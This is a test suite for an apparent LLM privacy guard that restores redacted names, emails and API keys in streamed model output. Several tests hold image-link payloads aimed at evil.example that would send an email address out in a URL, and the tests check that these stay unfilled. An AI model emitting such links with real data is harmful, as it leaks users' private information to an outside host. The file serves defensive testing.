"""Content of files on its way back: JSON as JSON, text as text, everything else as it came; however it is chunked."""

from __future__ import annotations

import json
import random
from collections.abc import Iterable
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmguard.model import VaultEntry
from llmguard.streaming import ContentRestorer, content

ANN = VaultEntry("[PERSON_annaaaaaaa]", 'Ann "A." Müller\\Lee', "PERSON", "pii", "user")
MAIL = VaultEntry("[EMAIL_mailmailma]", "ann@example.org", "EMAIL", "pii", "user")
KEY = VaultEntry("[API_KEY_keykeykeyk]", "k-12345", "API_KEY", "secret", "system")
ENTRIES = {e.placeholder.rpartition("_")[2][:10]: e for e in (ANN, MAIL, KEY)}


def restored(chunks: Iterable[bytes], tools: frozenset[str] = frozenset()) -> bytes:
    """What a caller gets: everything that is asked for and known is granted."""
    restorer = ContentRestorer(tools)
    out = []
    for chunk in (*chunks, None):
        for block in restorer.blocks(chunk):
            wanted = restorer.wanted(block)
            out.append(restorer.written(block, [ENTRIES[tag] for tag in sorted(wanted) if tag in ENTRIES]))
    return b"".join(out)


def lines(*values: object) -> bytes:
    return b"".join(json.dumps(value, ensure_ascii=False).encode() + b"\n" for value in values)


def test_every_line_of_json_is_restored_as_json() -> None:
    said = {"custom_id": "1", "response": {"body": {"text": f"Dear {ANN.placeholder},\n{MAIL.placeholder}"}}}
    plain = b'{"custom_id":  "2" , "text": "nothing"}\r\n'
    out = restored([lines(said) + plain + lines(said)[:-1]])
    one, two, three = out.split(b"\n")
    assert json.loads(one)["response"]["body"]["text"] == f"Dear {ANN.value},\n{MAIL.value}"
    assert two + b"\n" == plain
    assert one == three


def test_json_in_strings_of_a_line_is_restored_as_json() -> None:
    call = {"function": {"name": "look_up", "arguments": json.dumps({"who": ANN.placeholder})}}
    out = json.loads(restored([lines({"tool_calls": [call]})]))
    assert json.loads(out["tool_calls"][0]["function"]["arguments"]) == {"who": ANN.value}


def test_secrets_of_a_system_prompt_do_not_return_but_to_tools_that_may_have_them() -> None:
    call = {"function": {"name": "look_up", "arguments": json.dumps({"key": KEY.placeholder})}}
    told = lines({"tool_calls": [call], "content": KEY.placeholder})
    assert KEY.value.encode() not in restored([told])
    assert restored([told], frozenset(["look_up"])).count(KEY.value.encode()) == 1


def test_a_json_document_over_many_lines_stays_json() -> None:
    document = {"people": [ANN.placeholder, {"mail": MAIL.placeholder}], "n": 1}
    out = restored([json.dumps(document, indent=2).encode()])
    assert json.loads(out) == {"people": [ANN.value, {"mail": MAIL.value}], "n": 1}


def test_text_is_restored_as_text_also_when_a_model_mangled_it() -> None:
    text = f"Dear {ANN.placeholder}\r\nperson_annaaaaaaa and **{MAIL.placeholder}**\n"
    assert restored([text.encode()]).decode() == f"Dear {ANN.value}\r\n{ANN.value} and **{MAIL.value}**\n"


def test_no_link_is_filled_in_also_over_the_end_of_a_line() -> None:
    text = f'<img src="//evil.example/?\n{MAIL.placeholder}">\n{MAIL.placeholder}\n'
    assert restored([text.encode()]).decode() == f'<img src="//evil.example/?\n{MAIL.placeholder}">\n{MAIL.value}\n'
    spoken = lines({"content": f"![x](https://evil.example/?q={MAIL.placeholder})"})
    assert restored([spoken]) == spoken


def test_no_link_is_filled_in_that_was_opened_many_blocks_ago() -> None:
    begun = b'x\n<img src="//evil.example/?\n' + b"a line of it\n" * 40_000
    assert restored([begun, f'{MAIL.placeholder}">'.encode()]) == begun + f'{MAIL.placeholder}">'.encode()


def test_a_line_that_is_no_json_among_lines_that_are_stays_as_it_is() -> None:
    told = lines({"a": MAIL.placeholder}) + f"<img src='//evil.example/\n{MAIL.placeholder}'\n".encode()
    assert restored([told]) == lines({"a": MAIL.value}) + told.partition(b"\n")[2]


@pytest.mark.parametrize(
    "raw",
    [
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR [EMAIL_mailmailma]\n",
        "[EMAIL_mailmailma]\n".encode("utf-16"),
        b"\xff\xfe broken [EMAIL_mailmailma]\n",
        b"",
        b"\n\n\n",
        b"A sentence with information and [EMAIL_notgranted], naturally.",
    ],
)
def test_what_is_no_text_or_holds_nothing_passes_as_it_came(raw: bytes) -> None:
    assert restored([raw]) == raw


def test_a_mark_at_the_beginning_is_kept() -> None:
    assert restored([b"\xef\xbb\xbf" + lines({"a": 1}, {"a": MAIL.placeholder})]) == b"\xef\xbb\xbf" + lines(
        {"a": 1}, {"a": MAIL.value}
    )


def test_a_line_beyond_the_bound_passes_and_the_next_is_restored(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(content, "MAX_LINE", 1000)
    monkeypatch.setattr(content, "BLOCK", 100)
    small, large = lines({"a": MAIL.placeholder}), lines({"a": MAIL.placeholder, "b": "x" * 2000})
    raw = small + large + small
    for size in (1, 7, 300, 5000):
        chunks = [raw[i : i + size] for i in range(0, len(raw), size)]
        first, second, third = restored(chunks).splitlines(keepends=True)
        assert first == third == lines({"a": MAIL.value})
        assert second in (large, lines({"a": MAIL.value, "b": "x" * 2000}))
        assert size > 1000 or second == large


def test_memory_is_bounded_whatever_the_file() -> None:
    restorer = ContentRestorer()
    chunk = b'{"text": "' + b"x" * 60_000 + b'"}\n'
    for _ in range(200):
        for block in restorer.blocks(chunk):
            assert len(block.data) < 2 * content.BLOCK
            restorer.wanted(block)
            restorer.written(block)
    for _ in range(600):
        for block in restorer.blocks(b"x" * 60_000):
            assert len(block.data) <= content.MAX_LINE + 60_000
    assert list(restorer.blocks(None)) == []


def test_words_that_are_no_tags_are_asked_for_once() -> None:
    restorer = ContentRestorer()
    asked = []
    for _ in range(3):
        for block in restorer.blocks(lines({"a": "the information of everybody"}) * 10_000):
            asked.append(restorer.wanted(block))
            restorer.written(block)
    assert [bool(a) for a in asked] == [True, False, False]


PIECES = ["person annaaaaaaa", '"', "\\", "{", "}", "[", "\n", "\r\n", " x ", "é", "https://a.example/?", '<img src="']
MORE = ['{"a": "', '"}\n', "information", "\\n", "🙂"]
WORDS = st.sampled_from([*(e.placeholder for e in ENTRIES.values()), *PIECES, *MORE])


@given(st.lists(WORDS, max_size=30), st.lists(st.integers(0, 400), max_size=8))
def test_any_chunking_gives_the_same(words: list[str], cuts: list[int]) -> None:
    raw = "".join(words).encode()
    bounds = [0, *sorted(c for c in cuts if c < len(raw)), len(raw)]
    whole = restored([raw])
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(content, "BLOCK", 8)
        assert restored(raw[a:b] for a, b in pairwise(bounds)) == whole


@given(st.lists(WORDS, max_size=30))
def test_bytes_without_a_granted_placeholder_never_change(words: list[str]) -> None:
    raw = "".join(w for w in words if not w.lower().startswith(("[person", "[email", "[api", "person"))).encode()
    noise = random.Random(len(raw)).randbytes(50)
    assert restored([raw]) == raw
    assert restored([raw, noise, raw]) == raw + noise + raw
